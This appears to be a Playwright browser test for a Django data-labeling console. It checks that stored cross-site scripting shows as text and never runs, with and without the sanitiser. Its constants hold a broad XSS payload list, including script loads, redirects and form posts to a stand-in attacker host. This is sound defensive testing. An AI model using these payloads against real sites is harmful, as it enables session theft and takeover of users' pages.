"""Script that somebody stores: in prompts, responses, names, guidelines, notes, names of files. In Chromium, on every
page where it comes back; and with the sanitiser taken away the content security policy alone stops it.
"""

from collections.abc import Callable
from pathlib import Path
from typing import Any
from unittest.mock import patch

import pytest
from django.core.cache import cache
from playwright.sync_api import Page
from pytest_django.fixtures import Settings

from labeling import rendering
from labeling.assigning import labeler_of
from labeling.grouping import make_cohort
from labeling.guidelines import guideline_for
from labeling.models import Generator, Guideline, Import, Membership, Project, Question, Role, User, WorkKind
from labeling.opening import make_tasks
from tests.browser.conftest import Visitor
from tests.conftest import make_member
from tests.labeling.conftest import at_desk
from tests.labeling.work import make_campaign, make_prompt, ranked, submit_now

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser, pytest.mark.threat(4)]

RUN = "top.hacked=1"
SCRIPTS = f"""\
<script>{RUN}</script><script src="data:text/javascript,{RUN}"></script>
<script src="https://evil.example.com/x.js"></script>
<img src=x onerror="{RUN}"><svg onload="{RUN}"><script>{RUN}</script></svg>
<iframe srcdoc="<script>{RUN}</script>"></iframe>
<object data="data:text/html,<script>{RUN}</script>"></object><body onload="{RUN}"><details open ontoggle="{RUN}">
<base href="https://evil.example.com/"><link rel=stylesheet href="https://evil.example.com/x.css">
<style>@import url(https://evil.example.com/y.css); html {{ --hacked: 1 }}</style>
<form action="https://evil.example.com/"><button autofocus onfocus="{RUN}">x</button></form>
<a id=click href="javascript:{RUN}">click</a> <math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">
</textarea></title></script></pre><script>{RUN}</script>
"""
MARKDOWN = f"""\
[a link](javascript:{RUN}) [another](JaVaScRiPt&colon;{RUN}) [data](data:text/html,<script>{RUN}</script>)
<javascript:{RUN}>
![x](x" onerror="{RUN}) ![y](https://evil.example.com/pixel.png) [z]: javascript:{RUN}

[z]

```html" onmouseover="{RUN}" class="
<b onclick="{RUN}">
```
"""
LEADS_AWAY = '<meta http-equiv=refresh content="0;url=https://evil.example.com/">'
"""Runs nothing here; a content security policy has no word for it, so that the sanitiser alone stops it."""
HOSTILE = LEADS_AWAY + SCRIPTS + MARKDOWN + "{{ 7|add:7 }}{% debug %}"
NAME = f"<img src=x onerror={RUN}>"


@pytest.fixture
def stored(project: Project, owner: User, labeler: User, settings: Settings, tmp_path: Path) -> list[str]:
    """Written past every check into whatever holds a text or a name; the console's pages where it comes back."""
    settings.MODELS_DIR = settings.RUNS_DIR = tmp_path
    cache.clear()
    rendering._near.clear()
    Project.objects.update(name=NAME)
    User.objects.filter(pk=labeler.pk).update(first_name=NAME)
    guideline = guideline_for(project, WorkKind.RANKING)
    Guideline.objects.filter(pk=guideline.pk, published_at=None).update(
        body=HOSTILE, flags=[{"name": "rude", "label": NAME, "letter": "r"}]
    )
    campaign = make_campaign(project, tasks=0, shown=2, overlap=2)
    type(campaign).objects.filter(pk=campaign.pk).update(name=NAME)
    generator = Generator.objects.create(project=project, name=NAME, kind="external")
    prompts = [make_prompt(project, f"{number} {HOSTILE}") for number in range(2)]
    make_tasks(
        campaign,
        [(one, [one.responses.create(generator=generator, text=f"{text} {HOSTILE}") for text in "ab"])
         for one in prompts],
    )  # fmt: skip
    campaign.refresh_from_db()
    other = make_member(project, "other", Role.LABELER)
    work = ranked(1, 2)
    done = submit_now(
        at_desk(other, campaign).assignment, type(work)(responses=work.responses, note=HOSTILE)
    ).submission
    Question.objects.create(project=project, guideline=campaign.guideline, labeler=labeler_of(
        Membership.objects.get(user=other)), text=HOSTILE)  # fmt: skip
    cohort = make_cohort(project, name="c", about="")
    type(cohort).objects.update(name=NAME, about=HOSTILE)
    brought = Import.objects.create(
        project=project, source="trl", name=NAME, file_name=NAME, state="failed", error=HOSTILE,
        report={"refused": 1, "reasons": [{"line": 1, "reason": HOSTILE}]},
    )  # fmt: skip
    own = f"/projects/{project.slug}/"
    return [
        "/?all", f"{own}overview/", f"{own}prompts/", f"{own}prompts/{prompts[0].pk}/", f"{own}responses/",
        f"{own}campaigns/", f"{own}campaigns/{campaign.pk}/", f"{own}campaigns/{campaign.pk}/preview/",
        f"{own}campaigns/{campaign.pk}/tasks/", f"{own}submissions/{done.pk}/", f"{own}guidelines/",
        f"{own}guidelines/{campaign.guideline_id}/version/", f"{own}questions/", f"{own}people/",
        f"{own}cohorts/", f"{own}data/", f"{own}data/imports/{brought.uuid}/", f"{own}quality/",
        f"{own}prompts/?q=%3Cscript%3E{RUN}%3C%2Fscript%3E&split=%22%3E%3Csvg%2Fonload%3D{RUN}%3E",
    ]  # fmt: skip


def on_page(page: Page) -> dict[str, Any]:
    """What is in the document that could run or load anything, and whether anything ran."""
    return dict(
        page.evaluate(
            """() => ({
              hacked: window.hacked ?? null,
              styled: getComputedStyle(document.documentElement).getPropertyValue('--hacked'),
              handlers: [...document.querySelectorAll('*')].filter(
                one => [...one.attributes].some(a => a.name.startsWith('on'))).length,
              links: [...document.querySelectorAll('[href],[action],[src],[formaction],[data]')].map(
                one => one.getAttribute('href') ?? one.getAttribute('action') ?? one.getAttribute('src') ?? '').filter(
                one => one !== 'data:,' && /^\\s*(javascript|data|vbscript):|evil/i.test(one)),
              strange: document.querySelectorAll(
                'iframe,object,embed,math,base,style,meta[http-equiv],main svg[onload],script:not([src])').length,
            })"""
        )
    )


CLEAN = {"hacked": None, "styled": "", "handlers": 0, "links": [], "strange": 0}


def look(visitor: Visitor, addresses: list[str]) -> dict[str, dict[str, Any]]:
    asked: list[str] = []
    page = visitor.context.new_page()
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: asked.append(f"{request.failure} {request.url}"))
    page.on("dialog", lambda dialog: dialog.dismiss())
    found = {}
    for address in addresses:
        answer = page.goto(visitor.base + address)
        assert answer is not None
        assert answer.status in (200, 400), address
        for link in page.locator("a#click").all():
            link.evaluate("one => one.click()")
        found[address] = on_page(page)
    # What the policy kept from going out is told as a failure of its own.
    assert [url for url in asked if not url.startswith((visitor.base, "csp ", "data:,"))] == []
    return found


def test_what_was_stored_is_shown_and_nothing_of_it_runs(
    stored: list[str], owner: User, labeler: User, project: Project, visit: Callable[..., Visitor]
) -> None:
    desk = at_desk(labeler, project.campaigns.get())
    own = f"/projects/{project.slug}/"
    theirs = [own, desk.page, f"{desk.page}skip/", f"{own}my-work/", f"{own}guidelines/{desk.campaign.guideline_id}/"]
    found = look(visit(owner), stored) | look(visit(labeler), theirs)
    assert {address: one for address, one in found.items() if one != CLEAN} == {}


def test_without_the_sanitiser_the_content_security_policy_alone_stops_it(
    stored: list[str], owner: User, labeler: User, project: Project, visit: Callable[..., Visitor]
) -> None:
    """Every text goes into the page as it was stored."""
    with patch.object(rendering, "_render", lambda text: text.replace(LEADS_AWAY, "")):
        visitor = visit(owner)
        found = look(visitor, stored[:10])
    assert {one["hacked"] for one in found.values()} == {None}
    assert {one["styled"] for one in found.values()} == {""}
    assert sum(one["handlers"] for one in found.values()) > 5, "the sanitiser was not taken away"
